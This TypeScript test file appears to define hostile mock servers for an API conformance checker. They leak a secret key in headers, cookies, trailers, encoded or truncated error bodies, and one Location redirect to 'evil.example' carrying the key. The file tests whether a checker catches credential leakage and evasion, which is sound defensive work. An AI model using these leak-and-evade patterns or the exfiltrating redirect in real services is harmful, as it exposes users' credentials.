import { gzipSync } from "node:zlib";
import { conforming, fails, type HostileCases, inFront } from "../hostile-case.ts";
import { keyForms } from "../key-forms.ts";
import { altered, bedKey, petstore, plain } from "../petstore.ts";
import { createdAs, namedBy, refusedWith } from "../spoiled-texts.ts";

const forms = Object.values(keyForms(bedKey));
/** Those that may stand in a header's name. */
const tokens = forms.filter((form) => /^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/.test(form));
const half = bedKey.length / 2;

/** A finding shows the first 60 characters of a text: this share of the form is among them. */
const cutIn = (form: string, share: number) =>
  "x".repeat(Math.max(0, 60 - Math.round(form.length * share))) + form;

/** An Error with the key, in other bytes than those of UTF-8. */
const unsaid = (encoded: (error: Buffer) => Uint8Array) =>
  petstore(({ correct: { status, ...correct } }) => {
    if (status < 400) return plain({ status, ...correct });
    const error = JSON.stringify({ code: "error", message: `no access for ${bedKey}`, status });
    return plain({ status, ...correct }, { body: encoded(Buffer.from(error)) });
  });

/** The key comes back. */
export const echoes: HostileCases = {
  "echo-in-header-values": {
    does: "is correct, and repeats the key in a header in every form",
    hostility: () => altered({ headers: forms.map((form, n) => `X-Echo-${n}: ${form}`) }),
    expect: conforming,
  },
  "echo-in-header-names": {
    does: "is correct, and repeats the key in the names of headers",
    hostility: () => altered({ headers: tokens.map((token) => `X-${token}: a`) }),
    expect: conforming,
  },
  "echo-over-two-headers": {
    does: "is correct, and repeats the key in two halves, in the values of two headers",
    hostility: () => altered({ headers: [`X-A: ${bedKey.slice(0, half)}`, `X-B: ${bedKey.slice(half)}`] }),
    expect: conforming,
  },
  "echo-over-five-headers": {
    does: "is correct, and repeats the key in five pieces, in the values of headers, the last first",
    hostility: () =>
      altered({
        headers: [20, 15, 10, 5, 0].map((from) => `X-${from}: ${bedKey.slice(from, from + 5)}`),
      }),
    expect: conforming,
  },
  "echo-in-trailers-and-cookies": {
    does: "is correct, and repeats the key in trailers, chunk extensions, cookies and a Location elsewhere",
    hostility: () =>
      petstore(({ correct }) => {
        const [head = "", body = ""] = Buffer.from(
          plain(correct, {
            headers: [
              "Transfer-Encoding: chunked",
              `Set-Cookie: key=${bedKey}; Path=/`,
              `Location: http://evil.example/?key=${encodeURIComponent(bedKey)}`,
            ],
          }),
        )
          .toString("latin1")
          .replace(/Content-Length: \d+\r\n/, "")
          .split("\r\n\r\n");
        const chunks = body === "" ? "" : `${body.length.toString(16)};a=${bedKey.length}\r\n${body}\r\n`;
        return Buffer.from(`${head}\r\n\r\n${chunks}0\r\nX-Key: ${bedKey}\r\n\r\n`, "latin1");
      }),
    expect: conforming,
  },
  "echo-in-utf-16": {
    does: "repeats the key in Error bodies, which it sends in UTF-16",
    hostility: () => unsaid((error) => Buffer.from(error.toString(), "utf16le")),
    expect: fails("ERR-1", "ERR-2", "ERR-3"),
  },
  "echo-compressed": {
    does: "repeats the key in Error bodies, which it compresses without a word",
    hostility: () => unsaid(gzipSync),
    expect: fails("ERR-1", "ERR-2", "ERR-3"),
  },
  "echo-where-texts-are-cut": {
    does: "repeats the key in Error bodies behind so much text that a finding cuts it, in every form",
    hostility: refusedWith(forms.flatMap((form) => [0.3, 0.6, 0.9].map((share) => cutIn(form, share)))),
    expect: fails("ERR-1", "ERR-2", "ERR-3"),
  },
  "echo-in-reason-phrase": {
    does: "is correct, and repeats the key in its reason phrases",
    hostility: () =>
      petstore(({ correct }) => plain(correct, { statusLine: `HTTP/1.1 ${correct.status} ${bedKey}` })),
    expect: conforming,
  },
  "echo-in-names": {
    does: "is correct, and names the pets of its lists by the key, in every form",
    hostility: namedBy(forms),
    expect: conforming,
  },
  "echo-in-errors": {
    does: "repeats the key in Error bodies, and in their status",
    hostility: refusedWith(forms),
    expect: fails("ERR-1", "ERR-2", "ERR-3"),
  },
  "echo-in-created-pets": {
    does: "names each created pet by the key in its 201",
    hostility: createdAs(forms),
    expect: fails("CREATE-4", "CREATE-17", "CREATE-20"),
  },
  "echo-in-judged-headers": {
    does: "repeats the key in the headers that are judged",
    hostility: () =>
      petstore(({ correct, request }) => {
        const form = forms[request.nth % forms.length];
        const names = [
          "X-RateLimit-Limit",
          "X-RateLimit-Remaining",
          "Deprecation",
          "Sunset",
          "Content-Type",
          "Location",
        ];
        return plain(correct, {
          without: names.map((name) => name.toLowerCase()),
          headers: names.map((name) => `${name}: ${form}`),
        });
      }),
    expect: fails("HTTP-3", "ERR-5", "RATE-3"),
  },
  "echo-in-html": {
    does: "answers 500 and a page that shows the request",
    hostility: () =>
      petstore(({ request }) =>
        Buffer.from(
          ((page) =>
            `HTTP/1.1 500 ${bedKey}\r\nContent-Type: text/html\r\nContent-Length: ${page.length}\r\n\r\n${page}`)(
            `<pre>${request.head}</pre> ${forms.join(" ")} ${"x".repeat(1990)}${bedKey}`,
          ),
          "latin1",
        ),
      ),
    expect: inFront("outage", "the service fails"),
  },
};
